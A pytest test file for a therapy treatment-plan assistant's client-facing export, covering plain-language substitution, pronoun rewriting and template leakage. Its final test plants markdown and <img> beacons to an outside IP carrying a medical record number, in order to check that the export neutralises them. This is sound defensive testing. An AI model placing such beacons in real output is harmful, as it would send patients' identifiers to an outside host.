"""The client's copy: plain words from a tested list, the client's own pronouns, and nothing
from another presentation's template."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from assistant import instruments, knowledge
from assistant import intake as intake_mod
from assistant.drafting import draft
from assistant.export import client_copy
from assistant.export.plain_words import jargon_in, load, plain, second_person
from assistant.plan import Intervention, Provenance, TreatmentPlan
from assistant.plan import load as load_plan
from tests.conftest import VALID_INTAKES

PLANS = Path(__file__).parent / "data" / "plans"
EVAL_CASES = sorted((Path(__file__).resolve().parents[1] / "evals" / "cases").glob("*.json"))
INTAKE_FILES = VALID_INTAKES + EVAL_CASES


@pytest.fixture(scope="module")
def drafts() -> dict[str, TreatmentPlan]:
    """The offline draft of every shared intake and eval case, made once for this module."""
    return {p.stem: draft(intake_mod.load(p)).plan for p in INTAKE_FILES}


@pytest.mark.parametrize("name", [p.stem for p in INTAKE_FILES])
def test_no_listed_term_in_the_client_copy_of_any_shared_intake(
    drafts: dict[str, TreatmentPlan], name: str
) -> None:
    copy = client_copy.text(drafts[name])
    assert jargon_in(copy) == [], f"clinical words left in {name}'s copy"
    assert client_copy.reading_grade(copy) <= 8.5


def test_the_plain_words_list_is_usable() -> None:
    words = load()
    assert len(words.terms) >= 50
    for term, easy in words.terms.items():
        assert jargon_in(easy) == [], f"the replacement for {term!r} is itself jargon: {easy!r}"
        assert jargon_in(plain(f"We talked about {term} today.")) == [], term
    for inst in instruments.all_instruments():
        name = words.questionnaire(inst.id)
        assert name and jargon_in(name) == [], inst.id
    assert "sleep onset latency" in {t.lower() for t in words.terms}, "longer terms listed too"


def test_longer_terms_win_and_everyday_words_stay() -> None:
    assert plain("Her sleep onset latency is 50 minutes.") == (
        "Her time it takes to fall asleep is 50 minutes."
    )
    assert plain("We will spin a story and audit the week.") == (
        "We will spin a story and audit the week."
    ), "'spin' and 'audit' as words are not the SPIN or the AUDIT"
    assert plain("Screen with the C-SSRS every session.") == (
        "Screen with the safety check every session."
    )


@pytest.mark.parametrize(
    ("pronouns", "text", "expected"),
    [
        ("she/her", "close to her mother and son", "close to your mother and son"),
        ("she/her", "ask her to bring it", "ask you to bring it"),
        ("he/him", "committed to his marriage; his wife says she will leave",
         "committed to your marriage; your wife says she will leave"),
        ("they/them", "their sister drives them to work", "your sister drives you to work"),
        (None, "close to his daughter", "close to his daughter"),
    ],
)  # fmt: skip
def test_the_clients_own_pronouns_become_you(
    pronouns: str | None, text: str, expected: str
) -> None:
    assert second_person(text, pronouns) == expected


def test_a_template_sentence_about_the_client_speaks_to_the_client() -> None:
    sentence = "The risk of an overdose is cut for the client and the people around them."
    assert plain(sentence, "she/her") == (
        "The risk of an overdose is cut for you and the people around you."
    )


def test_the_copy_uses_the_pronouns_in_the_plan_header() -> None:
    plan = load_plan(PLANS / "example_aud_anxiety.json")
    plan.strengths = ["committed to his marriage", "his brother checks in on him"]
    plan.header.pronouns = "he/him"
    copy = client_copy.text(plan)
    assert "committed to your marriage" in copy and "checks in on you" in copy
    plan.header.pronouns = "she/her"
    assert "committed to his marriage" in client_copy.text(plan), "not the client's pronoun"


def test_a_plan_without_a_clinician_name_still_makes_a_copy() -> None:
    plan = load_plan(PLANS / "example_gad.json")
    plan.header.clinician_name = ""
    copy = client_copy.text(plan)
    assert "made together." in copy and "You can also tell us at any visit." in copy


def test_nothing_from_a_presentation_the_plan_did_not_use(
    drafts: dict[str, TreatmentPlan],
) -> None:
    kb = knowledge.load_cached()
    for name, plan in drafts.items():
        copy = client_copy.text(plan).lower()
        used = {
            item.provenance.record_id for _, _, item in plan.items() if item.provenance.record_id
        }
        for pid, pres in kb.presentations.items():
            if pid in used:
                continue
            for g in pres.goals:
                first = re.split(r"(?<=[.;])\s", g.text)[0]
                if len(first) > 30 and "{" not in first:
                    assert plain(first).lower() not in copy, f"{name}: {pid}'s goal in the copy"


def test_activities_name_only_what_the_plan_does() -> None:
    plan = load_plan(PLANS / "example_gad.json")
    plan.interventions.append(
        Intervention(
            id="int-rp",
            modality="Relapse prevention",
            technique="Relapse prevention plan for worry: early warning signs and booster sessions",
            objective_ids=["obj-1-1"],
            provenance=Provenance(source="clinician"),
        )
    )
    copy = client_copy.text(plan).lower()
    assert "spot early warning signs" in copy
    for word in ("craving", "drink", "using", "memories", "safety plan"):
        assert word not in copy, f"'{word}' comes from another presentation's template"


def test_an_abstinent_clients_substance_work_is_not_about_cutting_back() -> None:
    plan = load_plan(PLANS / "example_aud_anxiety.json")
    assert "cut back" not in " ".join(client_copy.activities(plan))
    assert "plan how to handle cravings and risky moments" in client_copy.activities(plan)


def test_an_intervention_is_described_by_its_name_not_a_technique_in_its_list() -> None:
    plan = load_plan(PLANS / "example_gad.json")
    plan.interventions = [
        Intervention(
            id="int-ar",
            modality="Applied relaxation",
            technique="Applied relaxation (Öst): progressive muscle relaxation; cue-controlled "
            "relaxation; stimulus control for sleep onset",
            objective_ids=["obj-1-1"],
            provenance=Provenance(source="clinician"),
        )
    ]
    assert client_copy.activities(plan) == ["practise ways to calm your body and your mind"]


def test_a_range_with_equal_ends_reads_as_one_figure() -> None:
    assert (
        plain("weekly, 12-12 sessions, then 1-2 a month") == "weekly, 12 sessions, then 1-2 a month"
    )


def test_the_client_copy_file_cannot_form_an_image_or_link(
    drafts: dict[str, TreatmentPlan],
) -> None:
    import re

    plan = drafts["gad_nurse"].model_copy(deep=True)
    hostile = "![x](http://203.0.113.9/p.png?mrn=MRN-20417) <img src=http://203.0.113.9/q>"
    plan.goals[0].client_words = "worry less " + hostile
    plan.strengths = [*plan.strengths, hostile]
    body = client_copy.write(plan, final=False).decode()
    assert "203.0.113.9" in body  # kept as text, for the reader
    assert not re.search(r"(?<!\\)(?:!\[|\]\()", body)
    assert "<img" not in body
